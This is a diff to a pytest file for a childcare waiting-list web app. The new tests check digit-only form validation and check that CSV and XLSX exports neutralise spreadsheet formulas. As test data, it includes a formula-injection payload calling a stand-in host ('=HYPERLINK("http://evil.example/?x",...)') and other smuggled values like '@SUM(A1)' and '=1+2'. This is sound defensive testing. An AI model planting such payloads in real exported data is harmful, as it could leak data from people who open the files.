@@ -30,7 +30,8 @@ from regional_loket.provider.models import PriorityPolicy
 from regional_loket.requests.models import Application, Status
 from regional_loket.tenancy import tenant_scope
 
-from .conftest import host_url, login
+from . import factories
+from .conftest import hand_over, host_url, login
 from .test_requests import START, TODAY, _application, _submit, world  # noqa: F401 — fixture
 
 # --- ranking properties, against the database ----------------------------------------------------
@@ -344,8 +345,7 @@ def staffed(world, make_user):  # noqa: F811
 def _client_on(app, user, tenant):
     client = app.test_client()
     login(client, user)
-    go = client.get("/sessie/naar", query_string={"to": host_url(tenant) + "/opvang/"}, base_url=host_url())
-    client.get(go.headers["Location"].split(host_url(tenant), 1)[1], base_url=host_url(tenant))
+    hand_over(client, tenant, "/opvang/")
     return client
 
 
@@ -476,6 +476,38 @@ def test_free_places_grid(app, world, staffed):  # noqa: F811
         CatalogAvailability.age_group == "baby")) == 3  # 4 minus the one held by the offer
 
 
+@pytest.mark.parametrize("digits", ["\u00b2", "\u0663", "\uff13", "3\u0663", "-1", "1_0"])
+def test_free_places_grid_accepts_ascii_digits_only(app, world, staffed, digits):  # noqa: F811
+    """'²' used to answer 500 (str.isdigit() says yes, int() says no) and '٣' was saved as 3."""
+    herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
+    h1_id = h1.id
+    client = _client_on(app, staffed["h1_staff"], herent)
+    key = f"{START:%Y-%m}-baby"
+    refused = client.post(f"/opvang/{h1_id}/vrije-plaatsen", data={key: digits}, base_url=host_url(herent))
+    assert refused.status_code == 422
+    assert "vul een geheel getal in" in refused.get_data(as_text=True)
+    db.session.expire_all()
+    assert db.session.scalar(sa.select(CatalogAvailability.free_places).where(
+        CatalogAvailability.location_id == h1_id, CatalogAvailability.month == START,
+        CatalogAvailability.age_group == "baby")) == 1  # as the world made it
+
+
+@pytest.mark.parametrize("value", ["\u0663\u0660", "\u00b2", "NaN", "Infinity"])
+def test_profile_numbers_accept_ascii_digits_only(app, world, staffed, value):  # noqa: F811
+    herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
+    h1_id = h1.id
+    client = _client_on(app, staffed["coordinator"], herent)
+    data = {"opens_at": "07:00", "closes_at": "18:00", "languages": "nl", "tariff": "free", "day_price": value,
+            "licensed_places": value}
+    response = client.post(f"/opvang/{h1_id}/profiel", data=data, base_url=host_url(herent))
+    assert response.status_code == 422
+    html = response.get_data(as_text=True)
+    assert "Vul een geheel getal in, met de cijfers 0 tot 9." in html
+    assert "Vul een getal in met de cijfers 0 tot 9, bv. 39.50." in html
+    db.session.expire_all()
+    assert db.session.scalar(sa.select(CatalogLocation.licensed_places).where(CatalogLocation.location_id == h1_id)) == 18
+
+
 def test_profile_editing_reaches_the_catalog(app, world, staffed):  # noqa: F811
     herent, h1 = world["tenants"]["herent"], world["places"]["h1"]
     client = _client_on(app, staffed["h1_staff"], herent)
@@ -520,40 +552,20 @@ def test_vulnerable_share(world):  # noqa: F811
 
 
 def test_two_staff_offering_the_last_place_at_once_one_wins(committed):
-    from regional_loket.families import services as families
-    from regional_loket.requests import services as requests
-
     app, slugs = committed(1)
     with app.app_context():
         from regional_loket.accounts import services as accounts
         from regional_loket.tenancy import services as tenancy
 
         tenant = tenancy.get_tenant(db.session, slugs[0])
-        start = START
-        with tenant_scope(db.session, tenant):
-            place = Location(name="Laatste Plaats", organiser="x", kind="group", street="s", number="1",
-                             postcode="3020", locality="Herent", lat=50.9, lon=4.67, licensed_places=10,
-                             min_age_months=0, max_age_months=36, opening_days=[1, 2, 3, 4, 5],
-                             opens_at=datetime.min.time(), closes_at=datetime.max.time().replace(microsecond=0),
-                             closures=[], languages=["nl"], tariff="income", description={}, accepts_online=True,
-                             active=True, extra_criteria=[])
-            place.availability.append(Availability(month=start, age_group="baby", free_places=1))
-            db.session.add(place)
-            db.session.flush()
-        place_id = place.id
+        place_id = factories.make_location(db.session, tenant, "Laatste Plaats", free={(START, "baby"): 1}).id
         ids = []
         for n in range(2):
-            user, _ = accounts.register(db.session, email=f"race{n}-{slugs[0]}@example.be", password="x" * 14, name="R")
-            family = families.ensure_family(db.session, user, language="nl")
-            family.postcode = "3020"
-            child = families.add_child(db.session, family, first_name=f"Kind{n}", last_name="Race",
-                                       birth_date=TODAY - timedelta(days=200), due_date=None, national_number=None,
-                                       pepper="p", today=TODAY)
-            care = requests.draft(db.session, family, child, actor_id=None)
-            requests.set_plan(care, child, start_date=start, flexibility_weeks=0, care_plan={"1": "full"},
-                              keep_higher_choices=False, today=TODAY)
-            requests.add_choice(db.session, care, child, place_id)
-            requests.submit(db.session, care, family, child, actor_id=None, now=utcnow(), today=TODAY)
+            _user, family = factories.make_family(db.session, email=f"race{n}-{slugs[0]}@example.be", name="R")
+            child = factories.make_child(db.session, family, first_name=f"Kind{n}", last_name="Race",
+                                         birth_date=TODAY - timedelta(days=200))
+            care = factories.make_request(db.session, family, child, locations=[place_id], flexibility_weeks=0,
+                                          care_plan={"1": "full"})
             ids.append(care.choices[0].application_id)
         db.session.commit()
 
@@ -644,3 +656,71 @@ def test_provider_criteria_come_after_the_regions_and_are_explained(app, world, 
     login(family, world["parent"])
     page = family.get(f"/aanvragen/{first.id}", base_url=host_url()).get_data(as_text=True)
     assert "Plaats 1. Voldoet aan: opvang nodig voor werk" in page
+
+
+# --- exports: no formula reaches a spreadsheet ---------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x","klik")'
+
+
+@pytest.fixture
+def hostile_export(app, place, make_user):
+    """Two applications whose names and phone are formulas, and the place's staff logged in."""
+    tenant, location_id = place
+    snapshot = {"declarations": {}, "care_plan": {"1": "full"}, "contact": {"phone": "=1+2", "postcode": "\r3020"},
+                "child": {"first_name": HYPERLINK, "last_name": "-5"}}
+    with tenant_scope(db.session, tenant):
+        db.session.add_all([_row(location_id, minutes=1, snapshot=snapshot),
+                            _row(location_id, minutes=2, first_name="@SUM(A1)", last_name="\tTab")])
+    return _client_on(app, make_user("provider_staff", tenant=tenant, locations=[location_id]), tenant), tenant, \
+        location_id
+
+
+def test_the_csv_export_neutralises_every_formula(hostile_export):
+    client, tenant, location_id = hostile_export
+    response = client.get(f"/opvang/{location_id}/export.csv", base_url=host_url(tenant))
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    assert response.headers["Cache-Control"] == "no-store"
+    assert re.fullmatch(r'attachment; filename="wachtlijst-[a-z0-9-]+-\d{8}\.csv"',
+                        response.headers["Content-Disposition"])
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline=""),
+                           delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + HYPERLINK in cells and "'=1+2" in cells and "'-5" in cells and "'@SUM(A1)" in cells
+    assert "'\tTab" in cells and "'\r3020" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert [row[0] for row in rows[1:]] == ["1", "2"]  # positions are plain numbers
+
+
+def test_the_xlsx_export_has_no_formula_and_keeps_the_text(hostile_export):
+    from openpyxl import load_workbook
+
+    client, tenant, location_id = hostile_export
+    response = client.get(f"/opvang/{location_id}/export.xlsx", base_url=host_url(tenant))
+    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
+    assert response.headers["Content-Disposition"].endswith('.xlsx"')
+    sheet = load_workbook(io.BytesIO(response.get_data())).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    by_value = {cell.value: cell for cell in cells}
+    for text in (HYPERLINK, "=1+2", "-5", "@SUM(A1)", "\tTab"):  # (XML reads a CR back as LF)
+        assert by_value[text].data_type == "s" and by_value[text].quotePrefix, text
+    assert [sheet.cell(row=n, column=1).value for n in (2, 3)] == [1, 2]  # a real number stays a number
+    assert sheet.cell(row=2, column=1).data_type == "n"
+
+
+def test_export_headers_are_in_the_readers_language(hostile_export):
+    client, tenant, location_id = hostile_export
+    client.get("/lang/en", base_url=host_url(tenant))
+    response = client.get(f"/opvang/{location_id}/export.csv", base_url=host_url(tenant))
+    header = next(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
+    assert "voornaam" not in header and "first name" in header  # passes once the catalogs are merged
+
+
+def test_every_cell_type_is_made_safe():
+    from decimal import Decimal
+
+    from regional_loket.web.exports import neutralise
+
+    assert [neutralise(v) for v in (3, -2.5, Decimal("-1.5"), None, True, "Anna", "-5", " =x")] == [
+        3, -2.5, Decimal("-1.5"), "", "True", "Anna", "'-5", " =x"]
